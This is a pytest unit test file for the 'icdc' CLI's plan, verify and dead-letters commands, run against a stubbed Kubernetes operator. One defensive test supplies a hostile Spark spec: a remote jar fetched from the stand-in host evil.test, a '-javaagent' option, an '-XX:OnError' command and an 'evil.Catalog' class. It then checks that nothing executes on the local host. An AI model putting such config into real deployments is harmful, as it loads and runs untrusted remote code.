"""`icdc plan`, `verify` and `dead-letters` with a NAME: what is asked, and what is said of it."""

import json
import os
import subprocess
from pathlib import Path
from secrets import token_hex
from typing import Any

import pytest

from icdc_api import naming
from icdc_api.errors import TargetUnavailable
from icdc_api.job import report_text
from icdc_api.job.run_files import RunReport
from icdc_api.status.runs import Failure, RunKind, RunState
from icdc_api.status.triggers import Ask
from icdc_cli import main
from icdc_cli.cluster import asking
from icdc_testing.kube.api_stub import ApiStub, Object, make_driver_pod
from icdc_testing.kube.stored_pipelines import make_condition
from icdc_testing.operator.deciding.pipelines import NOW, make_spec, run_record

pytestmark = pytest.mark.unit

PLAN_RESULT = {"tables": [{"name": "shop.orders", "index": "orders", "mode": "Export"}]}
VERIFY_RESULT = {"tables": [{"name": "shop.orders", "index": "orders", "equal": True}]}
LETTER = {"id": "7", "errorType": "mapper_parsing_exception", "reason": "no number"}
DEAD_LETTERS_RESULT = {"tables": [{"name": "shop.orders", "index": "orders", "letters": [LETTER]}]}
REPLAY_RESULT = {"tables": [{"name": "shop.orders", "index": "orders", "resent": 3, "left": 0}]}
REFUSED_AGAIN = {"tables": [{"name": "shop.orders", "index": "orders", "resent": 3, "left": 2}]}
UNSETTLED = {"tables": [{"name": "shop.orders", "equal": None, "reason": "BatchUnderWay"}]}
DIFFERENT = {"tables": [{"name": "shop.orders", "index": "orders", "equal": False}]}


class AnsweringOperator:
    """Answers the question as soon as it sees it, or does what a test says."""

    def __init__(self, api: ApiStub) -> None:
        self.api = api
        self.result: dict[str, Any] | None = PLAN_RESULT
        self.failure: Failure | None = None
        self.pod_is_there = True
        self.asked: list[Ask] = []
        api.after_patch = self.answer

    def answer(self, pipeline: Object) -> None:
        self.api.after_patch = lambda _: None
        ask = Ask.of_annotation(pipeline["metadata"]["annotations"][naming.ANNOTATION_ASK])
        assert ask is not None
        self.asked.append(ask)
        run = run_record(
            name="shop-p2-1", kind=ask.mode, run_id="shop-p2-1.7", ask=ask.id, finished_at=NOW
        ).model_copy(update={"state": RunState.SUCCEEDED})
        taken_up: Object = {"id": ask.id, "run": run.name, "finished": True}
        if self.failure is not None:
            taken_up["failure"] = self.failure.to_resource()
        pipeline["status"] = {"recentRuns": [run.to_resource()], "observedAsk": taken_up}
        if self.pod_is_there:
            self.api.pods.append(self._make_pod())

    def _make_pod(self) -> Object:
        report = RunReport(
            run_id="shop-p2-1.7", started_at=NOW, updated_at=NOW, finished=True, result=self.result
        )
        pod = make_driver_pod("shop-p2-1-driver", "shop-p2-1", created="2026-03-01T12:00:00Z")
        notes = {report_text.ANNOTATION_REPORT: report_text.to_annotation(report)}
        pod["metadata"]["annotations"] = notes
        return pod


@pytest.fixture
def operator(api: ApiStub, shop: Object, monkeypatch: pytest.MonkeyPatch) -> AnsweringOperator:
    """The pipeline `shop` has an operator; nothing may be started on this host."""

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a process is started")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    return AnsweringOperator(api)


def list_annotations(shop: Object) -> Object:
    annotations_of_shop: Object = shop["metadata"].get("annotations") or {}
    return {key: value for key, value in annotations_of_shop.items() if value is not None}


@pytest.mark.parametrize(
    ("arguments", "mode", "result", "code", "text"),
    [
        (["plan"], RunKind.PLAN, PLAN_RESULT, 0, "Export"),
        (["verify"], RunKind.VERIFY, VERIFY_RESULT, 0, "yes"),
        (["verify", "--repair"], RunKind.REPAIR, VERIFY_RESULT, 0, "yes"),
        (["verify"], RunKind.VERIFY, DIFFERENT, 1, "no"),
        (["verify"], RunKind.VERIFY, UNSETTLED, 3, "unsettled"),
        (["dead-letters", "list"], RunKind.DEAD_LETTERS, DEAD_LETTERS_RESULT, 0, "mapper_parsing"),
        (["dead-letters", "replay"], RunKind.REPLAY, REPLAY_RESULT, 0, "3        0"),
        (["dead-letters", "replay"], RunKind.REPLAY, REFUSED_AGAIN, 1, "3        2"),
    ],
)
def test_the_answer_of_a_run_in_the_cluster_is_shown(
    arguments: list[str],
    mode: RunKind,
    result: dict[str, Any],
    code: int,
    text: str,
    operator: AnsweringOperator,
    shop: Object,
    capsys: pytest.CaptureFixture[str],
) -> None:
    operator.result = result
    assert main.main([*arguments, "shop"]) == code
    assert [question.mode for question in operator.asked] == [mode]
    *_, row = capsys.readouterr().out.splitlines()
    assert text in row
    assert list_annotations(shop) == {}, "the question is taken back"
    assert not any("secrets" in request for request in operator.api.asked)


def test_nothing_that_a_pipeline_says_runs_on_the_host_of_who_asks(
    api: ApiStub, operator: AnsweringOperator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker, java = tmp_path / "marker", tmp_path / "bin" / "java"
    java.parent.mkdir()
    java.write_text(f"#!/bin/sh\ntouch {marker}\n")
    java.chmod(0o755)
    monkeypatch.setenv("PATH", f"{java.parent}:{os.environ['PATH']}")
    monkeypatch.setenv("JAVA_HOME", str(tmp_path))
    conf = {
        "spark.driver.extraJavaOptions": f"-XX:OnError='touch {marker}' -javaagent:/tmp/x.jar",
        "spark.jars": "https://evil.test/x.jar",
    }
    properties = {"catalog-impl": "evil.Catalog", "warehouse": "/nowhere"}
    spec = make_spec("shop.orders", catalog={"properties": properties}).to_resource()
    spec["spark"] = {"conf": conf}
    api.add_pipeline({"metadata": {"name": "shop"}, "spec": spec})
    code = main.main(["plan", "shop"])
    # A version that refuses such a spec as a whole asks nothing either.
    assert code == (0 if operator.asked else 2)
    assert not marker.exists()


def test_some_dead_letters_are_asked_for_by_table_and_id(
    operator: AnsweringOperator, shop: Object, capsys: pytest.CaptureFixture[str]
) -> None:
    operator.result = DEAD_LETTERS_RESULT
    some = ["--table", "shop.orders", "--id", "7", "--id", "8|x"]
    assert main.main(["dead-letters", "list", "shop", "--documents", *some]) == 0
    assert main.main(["dead-letters", "list", "shop", "--table", "shop.items"]) == 2
    assert "has no such table; it has shop.orders, shop.customers" in capsys.readouterr().err
    (asked,) = operator.asked
    assert (asked.tables, asked.ids) == (("shop.orders",), ("7", "8|x"))
    assert asked.documents


def test_no_more_is_asked_than_an_annotation_holds(
    operator: AnsweringOperator, shop: Object, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = [f"--id={number:0>500}" for number in range(300)]
    assert main.main(["dead-letters", "replay", "shop", *ids]) == 2
    assert "ask for fewer ids at a time" in capsys.readouterr().err
    assert list_annotations(shop) == {}
    assert not operator.asked


@pytest.mark.usefixtures("shop")
def test_a_table_whose_name_is_too_long_is_a_wrong_argument(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main(["dead-letters", "list", "shop", "--table", "x" * 600]) == 2
    assert "this cannot be asked: tables: String should have at most 253" in capsys.readouterr().err
    assert main.main(["dead-letters", "list", "shop", "--table", "x" * 250]) == 2
    assert "has no such table" in capsys.readouterr().err
    assert not operator.asked


@pytest.mark.usefixtures("shop")
def test_a_list_that_was_cut_off_says_so(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    dead_letters = [
        LETTER | {"id": f"{number:x}", "reason": token_hex(500)} for number in range(1000)
    ]
    table = {"name": "shop.orders", "index": "orders", "count": 1000, "letters": dead_letters}
    operator.result = {"tables": [table]}
    assert main.main(["dead-letters", "list", "shop"]) == 0
    shown = capsys.readouterr()
    *rows, last = shown.out.splitlines()
    assert 150 < len(rows) - 1 < 1000
    assert last == f"shop.orders: {1000 - (len(rows) - 1)} more are not shown"
    assert "omitted because the report is too large" in shown.err


def test_plan_says_first_what_the_operator_does_by_itself(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main(["plan", "shop"]) == 0
    first, head, _ = capsys.readouterr().out.splitlines()
    assert first.startswith("The operator: unknown: no operator has seen the pipeline yet")
    assert head.split()[0] == "NAME"


def test_data_for_programs_has_the_next_step_as_a_field(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main(["plan", "shop", "-o", "json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert list(shown) == ["operator", "tables"]


def test_why_there_is_no_answer_is_said(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    operator.failure = Failure.of(TargetUnavailable("search refuses connections"))
    assert main.main(["plan", "shop"]) == 3
    assert "icdc: TargetUnavailable: search refuses connections" in capsys.readouterr().err


def test_an_answer_whose_pod_is_gone_can_be_asked_for_again(
    operator: AnsweringOperator, capsys: pytest.CaptureFixture[str]
) -> None:
    operator.pod_is_there = False
    assert main.main(["plan", "shop"]) == 3
    assert "its pod, which held the answer, was deleted: ask again" in capsys.readouterr().err


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "POLL_SECONDS", 0.01)
    monkeypatch.setattr(asking, "TAKEN_UP_SECONDS", 0.05)


@pytest.mark.usefixtures("quick")
def test_where_no_operator_answers_it_says_who_must_see_to_it(
    shop: Object, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main(["plan", "shop"]) == 3
    said = capsys.readouterr().err
    assert (
        "no operator has accepted the question; action required: the platform engineer must" in said
    )
    assert list_annotations(shop) == {}


@pytest.mark.usefixtures("quick")
def test_a_run_at_work_is_waited_for_as_long_as_one_likes(
    shop: Object, capsys: pytest.CaptureFixture[str]
) -> None:
    why = make_condition("RunActive", "True", message="run shop-e1-1: the node has no room")
    shop["status"] = {"observedGeneration": 1, "conditions": [why]}
    shop["status"]["currentRun"] = run_record().to_resource()
    assert main.main(["plan", "shop", "--wait", "1"]) == 3
    said = capsys.readouterr().err
    assert "icdc: the run shop-e1-1 is active and must end first: the node has no room\n" in said
    assert "ask again with a higher --wait, see icdc logs shop, or end the run by" in said


@pytest.mark.usefixtures("quick")
def test_of_two_who_ask_at_once_one_is_told(
    api: ApiStub, shop: Object, capsys: pytest.CaptureFixture[str]
) -> None:
    other = Ask(id="other", mode=RunKind.VERIFY).to_annotation()

    def overwrite(pipeline: Object) -> None:
        api.after_patch = lambda _: None
        pipeline["metadata"]["annotations"][naming.ANNOTATION_ASK] = other

    api.after_patch = overwrite
    assert main.main(["plan", "shop"]) == 2
    assert "somebody else has asked shop something meanwhile" in capsys.readouterr().err
    assert list_annotations(shop) == {naming.ANNOTATION_ASK: other}, "theirs stays"


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ([], "either NAME"),
        (["shop", "-f", "x.yaml"], "either NAME"),
        (["shop", "--secrets-dir", "x"], "--secrets-dir is allowed only with -f"),
        (["shop", "--state-dir", "x"], "--state-dir is allowed only with -f"),
    ],
)
@pytest.mark.parametrize("command", ["plan", "verify"])
def test_either_a_name_or_a_file_is_asked_about(
    command: str, arguments: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main.main([command, *arguments]) == 2
    assert said in capsys.readouterr().err
